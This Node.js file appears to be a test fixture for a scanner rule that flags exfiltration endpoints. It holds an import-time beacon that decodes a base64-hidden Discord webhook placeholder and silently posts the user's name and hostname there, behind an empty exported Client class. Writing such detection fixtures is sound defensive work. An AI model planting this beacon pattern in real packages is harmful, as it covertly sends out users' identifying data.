'use strict';
// Import-time beacon whose webhook URL is hidden in base64.
const https = require('https');
const os = require('os');

// ruleid: code/exfil-endpoint
const hook = Buffer.from('aHR0cHM6Ly9kaXNjb3JkLmNvbS9hcGkvd2ViaG9va3MvMDAwMC9wbGFjZWhvbGRlcg==', 'base64').toString();
// ruleid: code/exfil-endpoint
const req = https.request(hook, { method: 'POST', headers: { 'content-type': 'application/json' } });
req.on('error', () => {});
req.end(JSON.stringify({ content: `${os.userInfo().username}@${os.hostname()}` }));

module.exports = { Client: class Client {} };
